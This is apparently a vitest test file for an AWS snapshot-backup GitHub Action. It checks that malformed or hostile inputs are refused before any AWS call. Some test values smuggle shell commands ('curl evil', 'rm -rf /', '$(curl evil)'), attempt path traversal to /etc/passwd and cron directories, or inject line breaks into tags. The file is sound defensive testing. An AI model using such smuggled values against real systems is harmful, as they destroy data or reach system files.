import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { startMoto, type Moto } from '../helpers/moto.js'
import { runAction } from '../helpers/action.js'
import { startFaultProxy, type FaultProxy } from '../../bench/fault-proxy.js'
import { stopStarted } from '../helpers/teardown.js'

let moto: Moto
let proxy: FaultProxy

beforeAll(async () => {
  moto = await startMoto()
  proxy = await startFaultProxy({ upstream: moto.url })
})
afterAll(() => stopStarted(proxy, moto))

const BACKUP = { mode: 'backup', bucket: 'snapshot-metadata-bucket', volume: 'vol-0123456789abcdef0' }

/** [input named in the error, inputs]: every case must fail before any AWS call. */
const CASES: [string, Record<string, string>][] = [
  ['mode', { mode: 'Inventory' }],
  ['mode', { mode: 'inventory\nprune' }],
  ['mode', { mode: 'destroy' }],
  ['regions', { regions: 'us-east-1,moon-1' }],
  ['regions', { regions: 'US-EAST-1' }],
  ['regions', { regions: 'all,us-east-1' }],
  ['regions', { regions: 'us-east-1;curl evil' }],
  ['services', { services: 's3' }],
  ['services', { services: 'EBS' }],
  ['role-to-assume', { 'role-to-assume': 'arn:aws:iam::123:role/x' }],
  ['role-to-assume', { 'role-to-assume': 'arn:aws:iam::123456789012:user/deployer' }],
  ['role-to-assume', { 'role-to-assume': 'arn:aws:iam::123456789012:role/x y' }],
  ['aws-region', { 'aws-region': 'moon-1' }],
  ['role-session-name', { 'role-session-name': 'has space' }],
  ['audience', { audience: 'two words' }],
  ['csv-path', { 'csv-path': '../../../../etc/passwd' }],
  ['csv-path', { 'csv-path': '/etc/cron.d/x.csv' }],
  ['artifact-name', { 'artifact-name': 'a/b' }],
  ['fail-on-region-error', { 'fail-on-region-error': 'yes' }],
  ['volume', { ...BACKUP, volume: '   \n  ' }],
  ['volume', { ...BACKUP, volume: 'vol-123' }],
  ['volume', { ...BACKUP, volume: 'vol-0123456789abcdef0junk' }],
  ['volume', { ...BACKUP, volume: 'moon-1/vol-12345678' }],
  ['db-instance', { ...BACKUP, 'db-instance': 'orders--db' }],
  ['db-instance', { ...BACKUP, 'db-instance': `orders\u0007db` }],
  ['db-instance', { ...BACKUP, 'db-instance': 'moon-1/orders' }],
  ['db-cluster', { ...BACKUP, 'db-cluster': 'a'.repeat(64) }],
  ['db-cluster', { ...BACKUP, 'db-cluster': 'aurora-' }],
  ['volume', { ...BACKUP, volume: 'tag:=daily' }],
  ['volume', { ...BACKUP, volume: 'tag:backup=*' }],
  ['volume', { ...BACKUP, volume: `tag:${'k'.repeat(129)}=v` }],
  ['db-instance', { ...BACKUP, 'db-instance': 'tag:team="x"' }],
  ['db-cluster', { ...BACKUP, 'db-cluster': 'tag:tier=gold\u0007' }],
  ['instance', { ...BACKUP, instance: 'i-123' }],
  ['instance', { ...BACKUP, instance: 'tag:role=db?' }],
  ['instance', { ...BACKUP, instance: 'moon-1/i-0123456789abcdef0' }],
  ['exclude-boot-volume', { ...BACKUP, 'exclude-boot-volume': 'sometimes' }],
  ['exclude-volume-tags', { ...BACKUP, 'exclude-volume-tags': 'no-equals-sign' }],
  ['exclude-volume-tags', { ...BACKUP, 'exclude-volume-tags': 'aws:reserved=x' }],
  ['bucket', { ...BACKUP, bucket: '' }],
  ['bucket', { ...BACKUP, bucket: 'Bad_Bucket' }],
  ['bucket', { ...BACKUP, bucket: '192.168.0.1' }],
  ['metadata-prefix', { ...BACKUP, 'metadata-prefix': '../outside/' }],
  ['retention-days', { mode: 'prune', 'retention-days': '-1' }],
  ['retention-days', { mode: 'prune', 'retention-days': '1e3' }],
  ['retention-days', { mode: 'prune', 'retention-days': '99999999999999999999' }],
  ['lock-days', { ...BACKUP, 'lock-days': '36501' }],
  ['lock-days', { ...BACKUP, 'lock-days': '16' }],
  ['lock-mode', { ...BACKUP, 'lock-mode': 'Compliance' }],
  ['keep-last', { mode: 'prune', 'keep-last': '1.5' }],
  ['keep-daily', { mode: 'prune', 'keep-daily': 'seven' }],
  ['keep-weekly', { mode: 'prune', 'keep-weekly': '-3' }],
  ['keep-monthly', { mode: 'prune', 'keep-monthly': '100000' }],
  ['dry-run', { mode: 'prune', 'dry-run': 'maybe' }],
  ['prune-tags', { mode: 'prune', 'prune-tags': 'team=*' }],
  ['prune-tags', { mode: 'prune', 'prune-tags': 'team=' }],
  ['prune-tags', { mode: 'prune', 'prune-tags': 'snapshot-hygiene:managed=true' }],
  ['tags', { ...BACKUP, tags: 'team=a\rinjected=b' }],
  ['tags', { ...BACKUP, tags: 'aws:createdBy=me' }],
  ['tags', { ...BACKUP, tags: 'novalue' }],
  ['description', { ...BACKUP, description: 'x'.repeat(300) }],
  ['wait', { ...BACKUP, wait: 'TRUEISH' }],
  ['wait-timeout-minutes', { ...BACKUP, 'wait-timeout-minutes': '0' }],
  ['allowed-accounts', { mode: 'check', 'allowed-accounts': '12345' }],
  ['max-age-days', { mode: 'check', 'max-age-days': '0' }],
  ['max-backup-age-hours', { mode: 'check', 'max-backup-age-hours': 'abc' }],
  ['ignore-rules', { mode: 'check', 'ignore-rules': 'all-rules' }],
  ['fail-on', { mode: 'check', 'fail-on': 'critical' }],
  ['max-annotations', { mode: 'check', 'max-annotations': '-5' }],
  ['comment', { mode: 'check', comment: 'nah' }],
  ['accounts', { accounts: 'org' }],
  ['member-role-name', { 'member-role-name': 'snapshot-hygiene-member' }],
  ['max-parallel-accounts', { accounts: 'organization', 'member-role-name': 'r', 'max-parallel-accounts': '0' }],
  ['merge-path', { mode: 'merge', 'merge-path': '../../..' }],
  ['slice-size', { mode: 'list-accounts', accounts: 'organization', 'slice-size': '0' }],
  ['compare-with', { 'compare-with': '../../../../etc' }],
  ['compare-with', { mode: 'prune', 'compare-with': 'previous-run' }],
  ['fail-on-new-only', { mode: 'check', 'fail-on-new-only': 'true' }],
  ['fail-on-new-only', { mode: 'check', 'compare-with': 'previous-run', 'fail-on-new-only': 'sure' }],
  ['measure-incremental', { 'measure-incremental': 'top-10' }],
  ['copy-to-regions', { ...BACKUP, 'copy-to-regions': 'eu-west-1;rm -rf /' }],
  ['copy-kms-key', { ...BACKUP, 'copy-to-regions': 'eu-west-1', 'copy-kms-key': 'eu-west-1=$(curl evil)' }],
  ['copy-retention-days', { ...BACKUP, 'copy-retention-days': 'forever' }],
  ['copy-keep-last', { ...BACKUP, 'copy-keep-last': '-1' }],
  ['copy-keep-daily', { ...BACKUP, 'copy-keep-daily': '1e3' }],
  ['copy-keep-weekly', { ...BACKUP, 'copy-keep-weekly': '100000' }],
  ['copy-keep-monthly', { ...BACKUP, 'copy-keep-monthly': 'x' }],
  ['archive-after-days', { mode: 'prune', 'archive-after-days': 'soon' }],
  ['archive-after-days', { mode: 'inventory', 'archive-after-days': '30' }],
  // Set empty where action.yml has a default: refused, not read as the default (the code keeps no copy of it).
  ['mode', { mode: '' }],
  ['regions', { regions: '  ' }],
  ['csv-path', { 'csv-path': '' }],
  ['fail-on-region-error', { 'fail-on-region-error': '' }],
  ['retention-days', { mode: 'prune', 'retention-days': '' }],
  ['keep-last', { mode: 'prune', 'keep-last': '' }]
]

describe('hostile and malformed input', () => {
  it('has a case for every input the action declares but the credentials token', async () => {
    const fs = await import('node:fs')
    const yaml = fs.readFileSync(new URL('../../action.yml', import.meta.url), 'utf8')
    const inputsSection = yaml.slice(yaml.indexOf('\ninputs:'), yaml.indexOf('\noutputs:'))
    const declared = [...inputsSection.matchAll(/^ {2}([a-z-]+):\n {4}description/gm)].map((m) => m[1])
    const covered = new Set(CASES.map(([input]) => input))
    expect(declared.filter((d) => !covered.has(d ?? '') && d !== 'github-token')).toEqual([])
    expect(CASES.length).toBeGreaterThanOrEqual(30)
  })

  it.each(CASES)("fails on bad '%s' with one line naming it, before any AWS call", async (input, inputs) => {
    proxy.resetStats()
    const run = await runAction({ inputs, env: { AWS_ENDPOINT_URL: proxy.url, AWS_REGION: 'us-east-1' } })
    expect(run.code).toBe(1)
    expect(run.errors).toHaveLength(1)
    expect(run.errors[0]).toMatch(new RegExp(`^Input '${input}' `))
    expect(run.errors[0]).not.toContain('\n')
    expect(proxy.stats().requests).toBe(0)
  })

  it('counts calls when the input is good (the zero above is not vacuous)', async () => {
    proxy.resetStats()
    const run = await runAction({
      inputs: { regions: 'us-east-1', services: 'ebs' },
      env: { AWS_ENDPOINT_URL: proxy.url, AWS_REGION: 'us-east-1' }
    })
    expect(run.code).toBe(0)
    expect(proxy.stats().forwarded).toBeGreaterThanOrEqual(2)
  })
})
